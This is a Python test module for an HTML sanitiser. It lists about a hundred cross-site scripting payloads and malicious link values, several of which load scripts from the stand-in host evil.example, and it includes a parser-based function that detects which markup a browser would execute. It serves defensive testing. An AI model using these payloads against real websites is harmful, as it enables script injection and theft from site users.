"""Markup that would run a script, collected by what it abuses, and what tells whether one does.

Every vector names `pwned`: what a parser finds of it where a browser would run or open it is
alive; in text, and in the value of a harmless attribute, it is only words.
"""

import json
import re
from html.parser import HTMLParser

from lxml import html as lxml_html

VECTORS = [
    # Script elements, plain and disguised
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/pwned.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script/x>pwned()</script>",
    "<script\n>pwned()</script\n>",
    "</script><script>pwned()</script>",
    "<script type=module>import('/pwned')</script>",
    "<<script>pwned();//<</script>",
    "<script>pwned()",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    # Handlers
    "<img src=x onerror=pwned()>",
    '<img src=/media/a.jpg onerror="pwned()">',
    "<img/src=x/onerror=pwned()>",
    "<img src=x\x0conerror=pwned()>",
    "<p onmouseover=pwned()>a</p>",
    '<p/onclick="pwned()">a</p>',
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()><summary>a</summary></details>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()></audio>",
    "<marquee onstart=pwned()>a</marquee>",
    "<a href=/ onpointerrawupdate=pwned()>a</a>",
    "<p style=animation-name:x onanimationstart=pwned()>a</p>",
    "<textarea autofocus onfocus=pwned()></textarea>",
    "<figure tabindex=1 onfocus=pwned() autofocus>a</figure>",
    # Breaking out of an attribute, an element, a block of data
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned()>",
    '" onfocus="pwned()" autofocus="',
    "' onmouseover='pwned()",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "</p></div></article><script>pwned()</script>",
    '\\"};pwned();//',
    "\u2028</script><script>pwned()</script>",
    "{{ pwned }}{% include 'pwned' %}",
    "%(pwned)s %s {pwned}",
    # Addresses
    "<a href=javascript:pwned()>a</a>",
    "<a href=JaVaScRiPt:pwned()>a</a>",
    '<a href=" javascript:pwned()">a</a>',
    '<a href="java\tscript:pwned()">a</a>',
    '<a href="java&#10;script:pwned()">a</a>',
    '<a href="&#x6A;avascript&colon;pwned()">a</a>',
    '<a href="&#1;javascript:pwned()">a</a>',
    '<a href="javascript&#0000058pwned()">a</a>',
    "<a href=vbscript:pwned()>a</a>",
    "<a href=data:text/html,<script>pwned()</script>>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+#pwned'>a</a>",
    "<a href=//evil.example/pwned>a</a>",
    "<a href='/\\evil.example/pwned'>a</a>",
    "<a href=feed:javascript:pwned()>a</a>",
    "<a href=blob:https://evil.example/pwned>a</a>",
    "<img src=javascript:pwned()>",
    "<table background=javascript:pwned()><tr><td>a</td></tr></table>",
    "<form action=javascript:pwned()><button>a</button></form>",
    "<button formaction=javascript:pwned()>a</button>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=data:text/html,pwned>",
    "<base href=javascript:pwned()//>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/pwned.css>",
    # SVG and MathML, and what parsers make of them (mutation)
    "<svg onload=pwned()></svg>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script xlink:href=//evil.example/pwned></script></svg>",
    "<svg><a xlink:href=javascript:pwned()><text>a</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:pwned() /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
    "<math><a xlink:href=javascript:pwned()>a</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 "
    "onerror=pwned()>'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=pwned()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<template><script>pwned()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
    "<title><img title='</title><img src=x onerror=pwned()>'></title>",
    "<style><!--</style><img src=x onerror=pwned()>--></style>",
    "<xmp><p title='</xmp><img src=x onerror=pwned()>'>",
    "<select><noembed></select><script>x='<img src=x onerror=pwned()>'</script>",
    "<table><tbody><img src=x onerror=pwned()></tbody></table>",
    "<![CDATA[><img src=x onerror=pwned()>]]>",
    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "<!--!><img src=x onerror=pwned()>-->",
    "<?xml-stylesheet href='javascript:pwned()'?><p>a</p>",
    # Style
    "<style>@import '//evil.example/pwned.css';</style>",
    "<p style='background:url(javascript:pwned())'>a</p>",
    "<p style=\"behavior:url(#pwned);-moz-binding:url('//evil.example/pwned')\">a</p>",
    # Our own markup turned against us
    '<div class="quote" data-quote="1" onclick="pwned()"></div>',
    "<div class='quote' data-quote='1\"><img src=x onerror=pwned()>'></div>",
    '<figure class="image"><img src="/media/a.jpg" alt="<img src=x onerror=pwned()>">'
    "<figcaption><img src=x onerror=pwned()></figcaption></figure>",
    '<p title="</p><script>pwned()</script>">a</p>',
    '<a href="/" title="<img src=x onerror=pwned()>">a</a>',
]

LINKS = [
    "javascript:pwned()",
    "JAVASCRIPT:pwned()",
    " javascript:pwned()",
    "\tjavascript:pwned()",
    "java\nscript:pwned()",
    "\x01javascript:pwned()",
    "javascript://example.vn/%0apwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "file:///pwned",
    "//evil.example/pwned",
    "/\\evil.example/pwned",
    "\\\\evil.example/pwned",
    "/\t/evil.example/pwned",
    "https:\\\\evil.example/pwned",
]

_URLS = set("href src action formaction data xlink:href poster background ping srcset".split())
_HARMFUL = ("javascript:", "vbscript:", "data:", "feed:", "blob:", "//evil", "/\\evil")
_ACTIVE = {"script", "style", "iframe", "object", "embed", "base", "meta", "link", "template"}
_DATA = {"application/ld+json", "application/json"}


def alive(markup):
    """Return what of `markup`, an HTML page or a part of one, a browser would run or open.

    Two parsers read it, which take broken markup differently: what lives in either counts.
    """
    return [*_Reader(markup).found, *_of_tree(markup)]


def _of_tree(markup):
    if not markup.strip():
        return []
    found = []
    for element in lxml_html.document_fromstring(markup.encode(), parser=_UTF8).iter("*"):
        content = element.text_content() if element.tag in _ACTIVE else ""
        found += _living(element.tag, dict(element.attrib), content)
    return found


_UTF8 = lxml_html.HTMLParser(encoding="utf-8")


class _Reader(HTMLParser):
    """Python's own parser, which knows when a script ends."""

    def __init__(self, markup):
        super().__init__()
        self.found, self.inside = [], None
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attributes):
        attributes = {name: value or "" for name, value in attributes}
        self.found += _living(tag, attributes, "")
        if tag in ("script", "style"):
            self.inside = tag, attributes

    def handle_data(self, data):
        if self.inside:
            self.found += _living(*self.inside, data)

    def handle_endtag(self, tag):
        self.inside = None


def _living(tag, attributes, content):
    """What of one element is alive."""
    if tag == "script" and attributes.get("type") in _DATA:
        json.loads(content or "{}")  # whole, or the words in it ended it
        content = ""
    told = f"{attributes} {content}" if tag in _ACTIVE - {"meta", "link"} else content
    found = [f"<{tag}> {told}"] if "pwned" in told else []
    for name, value in attributes.items():
        address = re.sub(r"[\x00-\x20]", "", value).lower()
        if "pwned" not in address:
            continue
        is_address = name in _URLS or (name == "content" and "http-equiv" in attributes)
        is_address &= not re.match(r"/[^/\\]", address)  # a path of our own, whatever is in it
        is_script = name.startswith("on") or name in ("style", "srcdoc")
        if is_script or (is_address and any(word in address[:40] for word in _HARMFUL)):
            found.append(f"{name}={value}")
    return found
